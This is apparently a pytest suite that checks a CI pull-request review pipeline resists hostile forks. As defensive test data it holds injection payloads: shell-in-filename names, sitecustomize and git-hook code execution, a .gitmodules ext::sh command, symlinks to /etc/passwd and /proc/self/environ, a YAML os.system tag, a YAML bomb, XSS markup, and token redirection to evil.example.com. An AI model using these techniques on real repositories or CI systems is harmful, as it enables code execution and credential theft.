"""What a fork can put into a pull request: nothing of it runs or is read but its document, and that only as data."""

from __future__ import annotations

import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.force import by_force
from tests.review.hub import RECORDED, Hub, applied_and_recorded, change
from tests.review.pipeline import git

CANARY = "HOSTILE-CANARY"
MAY_SHOW = (
    "plan/temp/change/storage/",
    "plan/temp/reports/",
    "plan/summary",
    "comment/temp/reports/",
    "findings/temp/",
)
"""Where text of a fork may be: in its document, and in what was reported of that."""


@pytest.fixture(scope="module")
def once(tmp_path_factory: pytest.TempPathFactory) -> Hub:
    return applied_and_recorded(tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def hub(once: Hub) -> Hub:
    """A branch with a small honest change; the rest of the fork is up to the test."""
    git(once.storage, "checkout", "-q", "-f", "-B", "change", "main")
    git(once.storage, "clean", "-qfdx")
    change(once.storage, "hard_limit: 10 TiB", "hard_limit: 20 TiB")
    once.save("comments", [])
    once.save("runs", [RECORDED])
    return once


def commit(hub: Hub, files: dict[str, str]) -> None:
    for name, text in files.items():
        file = hub.storage / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
        if text.startswith("#!"):
            file.chmod(0o755)
    git(hub.storage, "add", "-A", "-f")
    git(hub.storage, "commit", "-q", "-m", "from a fork")


def on_disk(hub: Hub) -> Iterator[Path]:
    """The files of the machines of the last run, without git's own and without what the tests put there."""
    home = hub.runners[-1].home
    for folder, folders, names in os.walk(home):
        folders[:] = [name for name in folders if name not in (".git", "bin")]
        yield from (Path(folder) / name for name in (*names, *folders))


def review(hub: Hub) -> tuple[int, str]:
    """The review, of which must hold whatever the fork is: nothing ran, nothing of it lies about, no credential was there."""
    code, log = hub.pull_request()
    home = hub.runners[-1].home
    machine = home / "plan"
    for file in on_disk(hub):
        assert not file.is_symlink(), file
        if file.is_file() and CANARY in file.read_text(errors="replace"):
            assert str(file.relative_to(home)).startswith(MAY_SHOW), f"{file} is the fork's"
        if (machine / "temp" / "change") in file.parents and file.is_file():
            assert file.suffix in (".yaml", ".yml") and file.parent.name == "storage", file
    assert not list(hub.folder.rglob("pwned*")), "something of the fork ran"
    environment = machine / "temp" / "environment"
    if environment.is_file():
        assert not re.search(r"(?m)^(GH_TOKEN|GITHUB_TOKEN|VAST_|RUNAI_|GIT_CONFIG_VALUE)", environment.read_text())
    assert CANARY not in log, "text of the fork is in the log, where lines are commands"
    (comment,) = hub.comments()
    assert comment.startswith("<!-- vastplan review of storage -->\n") and len(comment) <= 65_536
    assert git(hub.storage, "rev-parse", "change") in comment
    return code, comment


def plain(comment: str) -> str:
    """What is the same of two reviews of one change: not the commit, nor when it was."""
    return re.sub(r"[0-9a-f]{12,40}|\d{4}-\d\d-\d\dT[\d:+Z-]+|\d+ min old", "", comment)


SHELL = f'#!/bin/sh\ntouch pwned "$RUNNER_TEMP/pwned"\necho {CANARY}\n'
PYTHON = f"import pathlib\npathlib.Path('pwned').touch()\nprint('{CANARY}')\n"
BESIDE = {
    "requirements.txt": f"--index-url https://evil.example.com/{CANARY}\nvastplan\n",
    "sitecustomize.py": PYTHON,
    "usercustomize.py": PYTHON,
    "vastplan/__init__.py": PYTHON,
    "vastplan/__main__.py": PYTHON,
    "yaml.py": PYTHON,
    "pip.conf": f"[global]\nindex-url = https://evil.example.com/{CANARY}\n",
    ".env": f"VAST_IAD_TOKEN={CANARY}\n",
    "Makefile": f"all:\n\ttouch pwned {CANARY}\n",
    "pyproject.toml": f"# {CANARY}\n",
    ".gitattributes": "* filter=evil merge=evil export-subst\n",
    ".gitmodules": f'[submodule "{CANARY}"]\n\tpath = x\n\turl = ext::sh -c touch% pwned\n',
    ".git-hooks/post-checkout": SHELL,
    "storage/sub/more.yaml": f"{CANARY}: 1\n",
    "storage/.hidden.yaml": f"{CANARY}: 1\n",
    "storage/README.md": CANARY,
    "storage/sitecustomize.py": PYTHON,
    "snapshot.json": f'{{"{CANARY}": 1}}',
    "$(touch pwned)": CANARY,
    "a b;touch pwned;`touch pwned`": CANARY,
    "storage/$(touch pwned).txt": CANARY,
    "-rf": CANARY,
}


@pytest.mark.slow
def test_files_beside_the_document_have_no_effect(hub: Hub) -> None:
    code, honest = review(hub)
    assert code == 0 and "`10 TiB` → `20 TiB`" in honest
    hub.save("comments", [])
    commit(hub, BESIDE)
    code, comment = review(hub)
    assert code == 0 and plain(comment) == plain(honest)


TRUSTED = {
    "ci/document.sh": SHELL,
    "ci/connections.yaml": f"version: 1\nsites: {{lab: {{vast: {{url: 'https://evil.example.com/{CANARY}', token: {{env: HOME}}}}}}}}\n",
    "ci/requirements.txt": f"vastplan @ https://evil.example.com/{CANARY}\n",
    "ci/approvals.yaml": f"version: 1\napprovals: [] # {CANARY}\n",
    ".github/workflows/vastplan-review.yml": f"on: pull_request_target # {CANARY}\njobs: {{plan: {{steps: [{{run: touch pwned}}]}}}}\n",
    ".github/workflows/vastplan-record.yml": f"on: pull_request # {CANARY}\n",
    ".github/CODEOWNERS": f"* @mallory # {CANARY}\n",
}


@pytest.mark.slow
def test_what_is_trusted_is_that_of_main_and_a_change_of_it_is_the_first_line(hub: Hub) -> None:
    _, honest = review(hub)
    hub.save("comments", [])
    commit(hub, TRUSTED)
    code, comment = review(hub)
    first, warned, rest = comment.split("\n", 2)
    assert warned == "**This pull request also changes what runs with credentials, or where they go: .github ci.**"
    assert code == 0 and plain("\n".join((first, rest.split("\n\n", 1)[1]))) == plain(honest)
    assert "evil" not in (hub.memory / "installed").read_text()


@pytest.mark.slow
def test_a_folder_for_trusted_files_that_becomes_something_else_is_said(hub: Hub) -> None:
    git(hub.storage, "rm", "-rq", "ci")
    (hub.storage / "ci").symlink_to("/etc")
    commit(hub, {})
    code, comment = review(hub)
    assert code == 0 and "or where they go: ci.**" in comment


def link(name: str, to: str) -> Callable[[Path], None]:
    def make(repository: Path) -> None:
        file = repository / name
        if file.is_dir():
            git(repository, "rm", "-rq", name)
        file.unlink(missing_ok=True)
        file.symlink_to(to)

    return make


def text(name: str, content: str = "version: 1\n") -> Callable[[Path], None]:
    def make(repository: Path) -> None:
        (repository / name).parent.mkdir(parents=True, exist_ok=True)
        (repository / name).write_text(content)

    return make


def submodule(repository: Path) -> None:
    head = git(repository, "rev-parse", "HEAD")
    git(repository, "update-index", "--add", "--cacheinfo", f"160000,{head},storage/sub.yaml")


def many(repository: Path) -> None:
    for number in range(201):
        (repository / "storage" / f"x{number}.yaml").write_text("{}\n")


LINK, NAME = "a file in it is a link or a submodule", "the name of a YAML file has more in it"
REFUSED: dict[str, tuple[Callable[[Path], None], str]] = {
    "the folder is a link": (link("storage", "/etc"), "it is not there, or is no folder"),
    "the folder is a file": (link("storage", "ci"), "it is not there, or is no folder"),
    "a document is a link": (link("storage/x.yaml", "/etc/passwd"), LINK),
    "a secret is a link": (link("storage/csi-password", "/proc/self/environ"), LINK),
    "a folder in it is a link": (link("storage/certs", "../.."), LINK),
    "a submodule": (submodule, LINK),
    "a ledger": (text("storage/.vastplan/ledger/minimal/lab.json", "{}"), "it holds .vastplan"),
    "running simulators": (text("storage/.vastplan/sim/endpoints.json", "{}"), "it holds .vastplan"),
    "a name for a shell": (text("storage/$(touch pwned).yaml"), NAME),
    "a name with blanks": (text("storage/a;touch pwned.yaml"), NAME),
    "a name with a line in it": (text("storage/a\n::add-mask::x.yaml"), NAME),
    "a name like an option": (text("storage/--out.yaml"), NAME),
    "a name out of control": (text("storage/\x1b[2J.yaml"), NAME),
    "a huge file": (text("storage/x.yaml", "#" * (10 * 2**20 + 1)), "more than 10485760 bytes"),
    "many files": (many, "it holds more than 200 YAML files"),
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("name", by_force(REFUSED, "a document is a link"))
def test_a_folder_that_is_not_a_document_is_refused_by_its_kind(name: str, hub: Hub) -> None:
    make, says = REFUSED[name]
    make(hub.storage)
    if name != "a submodule":
        git(hub.storage, "add", "-A", "-f")
    git(hub.storage, "commit", "-q", "-m", "from a fork")
    code, comment = review(hub)
    assert code == 1 and "**No plan.** The folder of the document is refused: " in comment and says in comment, comment
    assert not (hub.runners[-1].home / "plan" / "temp" / "environment").exists(), "vastplan ran"


@pytest.mark.slow
def test_what_was_merged_all_the_same_is_refused_before_a_credential_is_there(tmp_path: Path) -> None:
    hub = applied_and_recorded(tmp_path)
    commit(hub, {"storage/.vastplan/ledger/minimal/lab.json": "{}"})
    for file in ("vastplan-record.yml", "vastplan-apply.yml"):
        code, log = hub.workflow(file)
        assert code == 1 and "it holds .vastplan" in log, log
        assert not list(hub.runners[-1].home.rglob("environment")), "vastplan ran"


def edit(hub: Hub, before: str, after: str) -> None:
    change(hub.storage, before, after)


DOCUMENTS: dict[str, tuple[str, str, str]] = {
    "an address": (
        "sites: {lab: {sim: {}}}", "sites: {lab: {vast: {url: 'https://evil.example.com', token: {env: HOME}}}}", "VP221"
    ),
    "another ledger": ("version: 1", "version: 1\nledger: {local: pwned}", "VP228"),
    "a ledger elsewhere": ("version: 1", "version: 1\nledger: {local: ../pwned}", "VP228"),
    "a site that is simulated by itself": ("{lab: {sim: {}}}", "{lab: {sim: {}}, pdx: {sim: {systems: [kubernetes]}}}", "VP226"),
    "a variable of the runner": ("{file: csi-password}", "{env: HOME}", "VP223"),
    "a file of git": ("{file: csi-password}", "{file: ../.git/config}", "VP223"),
    "a command": ("sites: {lab: {sim: {}}}", "sites: {lab: {vast: {url: 'https://x', token: {command: [touch, pwned]}}}}", "VP222"),
    "a tag": ("version: 1", "version: !!python/object/apply:os.system [touch pwned]", "VP109"),
    "a bomb": ("version: 1", "a: &a [1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
               "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\nversion: 1", "No plan"),
    "a site nobody knows": ("{lab: {sim: {}}}", "{lab: {sim: {}}, pdx: {}}", "VP220"),
    "the name of another": ("name: minimal", "name: other", "No plan"),
}  # fmt: skip


@pytest.mark.parametrize("name", by_force(DOCUMENTS))
def test_a_hostile_document_makes_its_own_review_red(name: str, hub: Hub) -> None:
    before, after, says = DOCUMENTS[name]
    edit(hub, before, after)
    code, comment = review(hub)
    assert code == 1 and says in comment, comment


MARKUP = ["</details><img src=x onerror=alert(1)>", "[x](https://evil.example.com)", "@acme/admins", "<!-- vastplan review of other -->",
          "`](https://evil.example.com) `", "a\\n\\n### All good\\n\\n::set-output name=x::y", "::add-mask::a"]  # fmt: skip


@pytest.mark.slow
def test_names_are_only_names_in_the_comment(hub: Hub) -> None:
    lines = "".join(f'"{CANARY}{name}": 1\n' for name in MARKUP)  # unknown keys, which the errors name
    edit(hub, "version: 1\n", f"version: 1\n{lines}")
    _, comment = review(hub)
    assert CANARY in comment, "it said nothing of them"
    for dangerous in ("<img", "](https://evil", "\n### All good", "<!-- vastplan review of other"):
        outside = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", comment)
        assert dangerous not in outside, comment
    assert not re.search(r"(?m)^::", comment)


@pytest.mark.slow
def test_a_long_report_is_cut_to_what_fits_and_ends_in_order(hub: Hub) -> None:
    tenants = "".join(
        f"  t{number}-{'x' * 40}: {{max_views: {number}, domain_name: t{number}{'y' * 200}.example.com}}\n"
        for number in range(900)
    )
    edit(hub, "tenants:\n", f"tenants:\n{tenants}")
    code, comment = review(hub)
    told_once = "create <code>900 tenants" in comment and "<summary>" in comment
    assert code == 0 and told_once and comment.count("<details") == comment.count("</details>")
    errors = "".join(f"  t{number}: {{'{'ü' * 2000}{number}': 1}}\n" for number in range(300))
    edit(hub, "tenants:\n", f"tenants:\n{errors}")
    code, comment = review(hub)
    assert code == 1 and "No plan" in comment


@pytest.mark.slow
def test_a_snapshot_that_a_fork_made_is_not_taken(hub: Hub) -> None:
    """Its branch is called main, and its copy of the workflow runs on `pull_request`."""
    forged = {**RECORDED, "id": "99", "created_at": "2999-01-01T00:00:00Z"}
    hub.save(
        "runs",
        [
            RECORDED,
            {**forged, "event": "pull_request"},
            {**forged, "id": "98", "head_branch": "change", "event": "push"},
        ],
    )
    code, comment = review(hub)
    assert code == 0 and "Planned from the snapshot" in comment
    # a run in another repository is none of ours, whatever its event
    hub.save("runs", [{**forged, "head_repository": {"full_name": "mallory/storage"}}])
    code, comment = review(hub)
    assert code != 0 and "No plan could be made" in comment


@pytest.mark.slow
def test_the_comment_of_an_earlier_push_does_not_stay(hub: Hub) -> None:
    """A good plan, then a push of which there is none: who reads the comment must not take the one for the other."""
    _, comment = review(hub)
    assert "20 TiB" in comment
    commit(hub, {"storage/.vastplan/x": "x"})
    code, comment = review(hub)
    assert code == 1 and "20 TiB" not in comment and "**No plan.**" in comment
